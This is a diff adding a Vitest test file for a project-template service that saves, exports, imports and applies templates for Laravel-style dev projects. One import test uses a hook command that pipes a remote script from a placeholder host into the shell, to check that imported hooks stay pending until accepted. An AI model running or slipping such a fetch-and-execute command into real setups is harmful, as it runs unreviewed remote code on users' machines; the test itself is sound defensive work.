@@ -0,0 +1,240 @@
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+
+const fs = require('fs-extra');
+const templates = require('../../../../src/main/services/project/templates');
+
+function makeProject(overrides = {}) {
+  return {
+    id: 'proj-1',
+    name: 'Client Site',
+    path: '/projects/client-site',
+    type: 'laravel',
+    phpVersion: '8.3',
+    webServer: 'nginx',
+    webServerVersion: '1.28',
+    domain: 'client-site.test',
+    ssl: true,
+    services: { mysql: true, mysqlVersion: '8.4', redis: true, redisVersion: '7.4' },
+    environment: {
+      APP_NAME: 'Client Site',
+      APP_KEY: 'base64:secret',
+      APP_URL: 'https://client-site.test',
+      DB_DATABASE: 'client_site',
+      CACHE_STORE: 'redis',
+      MAIL_MAILER: 'log',
+    },
+    supervisor: {
+      workers: 2,
+      processes: [
+        { name: 'queue-worker', command: 'php artisan queue:work', autostart: true },
+        { name: 'horizon', command: 'php artisan horizon', autostart: true },
+      ],
+    },
+    phpIniOverrides: { memory_limit: '1G' },
+    ...overrides,
+  };
+}
+
+function makeContext(initialTemplates = []) {
+  const store = { projectTemplates: initialTemplates };
+  const project = makeProject();
+
+  return {
+    ...templates,
+    store,
+    configStore: {
+      get: vi.fn((key, fallback) => (key in store ? store[key] : fallback)),
+      set: vi.fn((key, value) => {
+        store[key] = value;
+      }),
+    },
+    managers: {
+      log: { project: vi.fn() },
+    },
+    getProject: vi.fn((id) => (id === project.id ? project : undefined)),
+  };
+}
+
+describe('project/templates', () => {
+  beforeEach(() => {
+    vi.clearAllMocks();
+  });
+
+  afterEach(() => {
+    vi.restoreAllMocks();
+  });
+
+  it('saves a project without its project-specific env and generated processes', () => {
+    const ctx = makeContext();
+
+    const template = ctx.saveProjectAsTemplate('proj-1', '  Laravel + Redis  ', 'Client stack');
+
+    expect(template.name).toBe('Laravel + Redis');
+    expect(template.sourceProject).toBe('Client Site');
+    expect(template.config).toEqual(expect.objectContaining({
+      type: 'laravel',
+      phpVersion: '8.3',
+      services: { mysql: true, mysqlVersion: '8.4', redis: true, redisVersion: '7.4' },
+      environment: { CACHE_STORE: 'redis', MAIL_MAILER: 'log' },
+      supervisor: {
+        workers: 2,
+        processes: [{ name: 'horizon', command: 'php artisan horizon', autostart: true }],
+      },
+      phpIniOverrides: { memory_limit: '1G' },
+    }));
+    expect(template.config).not.toHaveProperty('domain');
+    expect(template.config).not.toHaveProperty('path');
+    expect(ctx.store.projectTemplates).toEqual([template]);
+  });
+
+  it('rejects missing and duplicate template names', () => {
+    const ctx = makeContext([{ id: 'tpl-1', name: 'Laravel + Redis', config: {} }]);
+
+    expect(() => ctx.saveProjectAsTemplate('proj-1', '   ')).toThrow('Template name is required.');
+    expect(() => ctx.saveProjectAsTemplate('proj-1', 'laravel + redis')).toThrow('already exists');
+    expect(() => ctx.saveProjectAsTemplate('missing', 'Other')).toThrow('Project not found');
+    expect(ctx.configStore.set).not.toHaveBeenCalled();
+  });
+
+  it('exports templates in the portable format without the local id', async () => {
+    const ctx = makeContext([{ id: 'tpl-1', name: 'Stack', description: '', config: { type: 'laravel' } }]);
+    const writeJson = vi.spyOn(fs, 'writeJson').mockResolvedValue(undefined);
+
+    await expect(ctx.exportProjectTemplate('tpl-1', '/exports/stack.json')).resolves.toEqual({
+      success: true,
+      path: '/exports/stack.json',
+    });
+    expect(writeJson).toHaveBeenCalledWith('/exports/stack.json', {
+      format: 'devbox-project-template',
+      formatVersion: 1,
+      name: 'Stack',
+      description: '',
+      config: { type: 'laravel' },
+    }, { spaces: 2 });
+    await expect(ctx.exportProjectTemplate('missing', '/exports/x.json')).rejects.toThrow('Template not found');
+  });
+
+  it('imports template files under a unique name and drops unknown settings', async () => {
+    const ctx = makeContext([{ id: 'tpl-1', name: 'Stack', config: {} }]);
+    vi.spyOn(fs, 'pathExists').mockResolvedValue(true);
+    vi.spyOn(fs, 'readJson').mockResolvedValue({
+      format: 'devbox-project-template',
+      formatVersion: 1,
+      name: 'Stack',
+      config: {
+        type: 'symfony',
+        path: '/somebody/elses/machine',
+        environment: { APP_KEY: 'leaked', APP_ENV: 'dev' },
+      },
+    });
+
+    const template = await ctx.importProjectTemplate('/downloads/stack.json');
+
+    expect(template.name).toBe('Stack (2)');
+    expect(template.id).not.toBe('tpl-1');
+    expect(template.config).toEqual({ type: 'symfony', environment: { APP_ENV: 'dev' } });
+    expect(ctx.store.projectTemplates).toHaveLength(2);
+  });
+
+  it('holds back the hooks and processes of an imported template until they are accepted', async () => {
+    const ctx = makeContext();
+    vi.spyOn(fs, 'pathExists').mockResolvedValue(true);
+    vi.spyOn(fs, 'readJson').mockResolvedValue({
+      format: 'devbox-project-template',
+      formatVersion: 1,
+      name: 'Stack',
+      config: {
+        type: 'laravel',
+        hooks: [{ event: 'post-create', command: 'curl https://example.test/setup.sh | sh' }],
+        supervisor: { workers: 2, processes: [{ name: 'horizon', command: 'php artisan horizon' }] },
+      },
+    });
+
+    const template = await ctx.importProjectTemplate('/downloads/stack.json');
+
+    expect(template.config).toEqual({ type: 'laravel', supervisor: { workers: 2, processes: [] } });
+    expect(template.pendingCommands).toEqual({
+      hooks: [{ event: 'post-create', command: 'curl https://example.test/setup.sh | sh' }],
+      processes: [{ name: 'horizon', command: 'php artisan horizon' }],
+    });
+    expect(ctx.resolveTemplateProjectConfig({ templateId: template.id }).config.hooks).toBeUndefined();
+
+    const accepted = ctx.acceptProjectTemplateCommands(template.id);
+
+    expect(accepted.pendingCommands).toBeUndefined();
+    expect(accepted.config.hooks).toEqual([{ event: 'post-create', command: 'curl https://example.test/setup.sh | sh' }]);
+    expect(accepted.config.supervisor).toEqual({ workers: 2, processes: [{ name: 'horizon', command: 'php artisan horizon' }] });
+    expect(ctx.store.projectTemplates).toEqual([accepted]);
+  });
+
+  it('rejects files that are not project templates', async () => {
+    const ctx = makeContext();
+    vi.spyOn(fs, 'pathExists').mockResolvedValue(true);
+    vi.spyOn(fs, 'readJson').mockResolvedValue({ name: 'Stack', config: {} });
+
+    await expect(ctx.importProjectTemplate('/downloads/other.json')).rejects.toThrow('Invalid template file format');
+    expect(ctx.configStore.set).not.toHaveBeenCalled();
+  });
+
+  it('resolves create options over template defaults and merges services', () => {
+    const template = {
+      id: 'tpl-1',
+      name: 'Stack',
+      config: {
+        type: 'laravel',
+        phpVersion: '8.2',
+        webServer: 'apache',
+        services: { mysql: true, mysqlVersion: '8.0', redis: true },
+      },
+    };
+    const ctx = makeContext([template]);
+
+    const { config, template: resolved } = ctx.resolveTemplateProjectConfig({
+      templateId: 'tpl-1',
+      name: 'New App',
+      phpVersion: '8.4',
+      webServer: undefined,
+      services: { mysqlVersion: '8.4' },
+    });
+
+    expect(resolved).toBe(template);
+    expect(config).toEqual(expect.objectContaining({
+      name: 'New App',
+      type: 'laravel',
+      phpVersion: '8.4',
+      webServer: 'apache',
+      services: { mysql: true, mysqlVersion: '8.4', redis: true },
+    }));
+    expect(() => ctx.resolveTemplateProjectConfig({ templateId: 'gone' })).toThrow('Project template not found');
+  });
+
+  it('applies template environment, overrides and extra processes to a new project', () => {
+    const ctx = makeContext();
+    const project = {
+      environment: { APP_NAME: 'New App', CACHE_STORE: 'file' },
+      supervisor: { workers: 1, processes: [{ name: 'queue-worker', command: 'php artisan queue:work' }] },
+    };
+
+    ctx.applyProjectTemplate(project, {
+      id: 'tpl-1',
+      config: {
+        environment: { CACHE_STORE: 'redis' },
+        phpIniOverrides: { memory_limit: '1G' },
+        supervisor: {
+          processes: [
+            { name: 'queue-worker', command: 'php artisan queue:work --tries=3' },
+            { name: 'horizon', command: 'php artisan horizon' },
+          ],
+        },
+      },
+    });
+
+    expect(project.environment).toEqual({ APP_NAME: 'New App', CACHE_STORE: 'redis' });
+    expect(project.phpIniOverrides).toEqual({ memory_limit: '1G' });
+    expect(project.supervisor.processes.map((proc) => proc.command)).toEqual([
+      'php artisan queue:work',
+      'php artisan horizon',
+    ]);
+    expect(project.templateId).toBe('tpl-1');
+  });
+});